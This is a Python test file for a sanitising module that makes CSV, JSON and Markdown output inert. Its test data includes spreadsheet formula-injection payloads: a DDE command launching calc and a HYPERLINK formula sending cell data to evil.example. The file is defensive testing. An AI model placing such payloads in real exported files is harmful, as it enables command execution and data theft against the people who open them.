from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from assistant.inert import Cell, csv_lines, json_text, markdown, visible

FORMULA = tuple("=+-@\t\r\n＝＋－＠")
"""What a cell that a spreadsheet computes begins with (OWASP, CSV injection)."""
ACTIVE = ("Cc", "Cf", "Co", "Cs", "Zl", "Zp")
HOSTILE = st.text(
    st.one_of(st.sampled_from("=+-@,;|\t\r\n\"' \x1b\x9b\u202e\u2028[]()!<>"), st.characters())
)
NUMBERS = st.one_of(st.integers(), st.floats(allow_nan=False, allow_infinity=False))
SEPARATORS = (",", ";", "\t", "|")
ATTACKS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1)',
    "harmless,=1+1",
    "harmless;=1+1",
    'harmless"\n=1+1',
    "harmless\t@x",
)


def read(text: str, separator: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=separator))


def is_formula(cell: str) -> bool:
    cell = cell.strip(' "')
    is_number = re.fullmatch(r"[+-]?\d+(\.\d+)?(e[+-]?\d+)?", cell) is not None
    return cell.startswith(FORMULA) and not is_number


@pytest.mark.parametrize("separator", SEPARATORS)
@pytest.mark.parametrize("attack", ATTACKS)
def test_no_cell_is_a_formula_however_columns_are_cut(attack: str, separator: str) -> None:
    table = "".join(csv_lines([(1, attack, "x"), (attack, attack, 2)]))
    assert not [cell for row in read(table, separator) for cell in row if is_formula(cell)]


@given(st.lists(st.lists(HOSTILE, min_size=1, max_size=4), max_size=4))
def test_no_text_makes_a_formula_or_commands_a_terminal(rows: list[list[str]]) -> None:
    table = "".join(csv_lines(rows))
    for separator in SEPARATORS:
        for row in read(table, separator):
            assert not [cell for cell in row if is_formula(cell)], (rows, table)
    seen = table.replace("\r\n", "")
    assert not [char for char in seen if unicodedata.category(char) in ACTIVE]
    assert len(read(table)) == len(rows)


@given(st.lists(NUMBERS, min_size=1))
def test_numbers_stay_numbers(numbers: list[float]) -> None:
    (row,) = read("".join(csv_lines([numbers])))
    assert [float(cell) for cell in row] == [float(number) for number in numbers]


@pytest.mark.parametrize("text", ["-5", "-1.25", "12", "plain words", "a-b", "a = b", "x@y.z"])
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    cells: tuple[Cell, ...] = (text,)
    assert read("".join(csv_lines([cells]))) == [[text]]


JSON: st.SearchStrategy[Any] = st.recursive(
    st.one_of(st.none(), st.booleans(), NUMBERS, HOSTILE),
    lambda inner: st.one_of(st.lists(inner), st.dictionaries(HOSTILE, inner)),
    max_leaves=8,
)


@given(JSON, st.sampled_from([None, 2]))
def test_json_is_read_back_exactly_and_holds_nothing_that_acts(
    value: Any, indent: int | None
) -> None:
    text = json_text(value, indent=indent)
    assert json.loads(text) == value
    seen = text.replace("\n", "") if indent else text
    assert not [char for char in seen if unicodedata.category(char) in ACTIVE]
    text.encode()  # halves of surrogate pairs are written out, too


@pytest.mark.parametrize("separator", SEPARATORS)
@pytest.mark.parametrize("attack", ATTACKS)
def test_json_opened_as_a_table_holds_no_formula(attack: str, separator: str) -> None:
    text = json_text({"a": attack, "b": -1, "c": [attack]})
    cells = [cell for row in read(text, separator) for cell in row]
    assert not [cell for cell in cells if is_formula(cell)], text


@given(HOSTILE)
def test_markdown_shows_a_text_and_nothing_else(text: str) -> None:
    tokens = MarkdownIt("commonmark").parse(f"x{markdown(text)}x")
    assert [token.type for token in tokens] == ["paragraph_open", "inline", "paragraph_close"]
    kinds = {child.type for child in tokens[1].children or []}
    assert kinds <= {"text", "text_special"}


def test_markdown_breaks_addresses() -> None:
    for address in ("http://a.example", "https://a", "www.a.example", "mailto:a"):
        assert address not in markdown(f"see {address}")
    assert "ann@" not in markdown("write to ann@example.com").replace("@\u200c", "")


def test_visible_keeps_what_is_wanted() -> None:
    assert visible("a\tb\x1bc\n", "?", kept="\n") == "a?b?c\n"
